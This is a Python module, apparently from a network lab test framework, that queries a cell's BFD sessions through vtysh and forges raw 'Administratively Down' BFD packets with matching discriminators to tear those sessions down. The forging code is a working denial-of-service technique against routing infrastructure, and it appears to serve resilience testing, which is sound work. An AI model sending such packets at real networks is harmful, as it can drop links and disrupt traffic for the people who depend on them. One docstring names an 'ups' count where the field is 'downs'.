"""Packets that somebody forges to end the BFD sessions of a cell."""

from __future__ import annotations

import json
import socket
import struct
from collections.abc import Iterable
from contextlib import suppress
from dataclasses import dataclass

from watching import vtysh

from uno.lab import netns
from uno.lab.node import Node

# RFC 5880, section 4.1: version 1, "Administratively Down", as state too; three for Detect Mult.
_ADMINISTRATIVELY_DOWN = (1 << 5 | 7, 0, 3, 24)


@dataclass(frozen=True, kw_only=True)
class BfdSession:
    """A BFD session of a cell, as its bfdd has it: `ups` counts how often it has come up."""

    local: str
    remote: str
    discriminator: int
    is_up: bool
    downs: int


def bfd_sessions(cell: Node) -> dict[str, BfdSession]:
    """The sessions of a cell, by the address of the neighbour."""
    shown = {each["peer"]: each for each in json.loads(vtysh(cell, "show bfd peers json"))}
    counted = json.loads(vtysh(cell, "show bfd peers counters json"))
    return {
        each["peer"]: BfdSession(
            local=shown[each["peer"]]["local"],
            remote=each["peer"],
            discriminator=shown[each["peer"]]["id"],
            is_up=shown[each["peer"]]["status"] == "up",
            downs=each["session-down"],
        )
        for each in counted
    }


def send_forged_bfd(
    sender: Node, ways: Iterable[tuple[str, str]], ports: Iterable[int], numbers: Iterable[int]
) -> None:
    """Tell each of the sessions with these discriminators that its other end is down.

    `ways` are sources and destinations; the TTL is 255 (RFC 5881, section 5).
    """
    with netns.socket_in(
        sender.namespace, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW
    ) as hand:
        for source, target in ways:
            for port in ports:
                for number in numbers:
                    with suppress(OSError):
                        hand.sendto(_packet(source, target, port, number), (target, 0))


def _packet(source: str, target: str, port: int, discriminator: int) -> bytes:
    bfd = struct.pack(">BBBBIIIII", *_ADMINISTRATIVELY_DOWN, 1, discriminator, 100000, 100000, 0)
    udp = struct.pack(">HHHH", 49999, port, 8 + len(bfd), 0)
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    # The kernel fills in length and checksum (raw(7)).
    return struct.pack(">BBHHHBBH", 0x45, 0xC0, 0, 1, 0, 255, 17, 0) + ends + udp + bfd
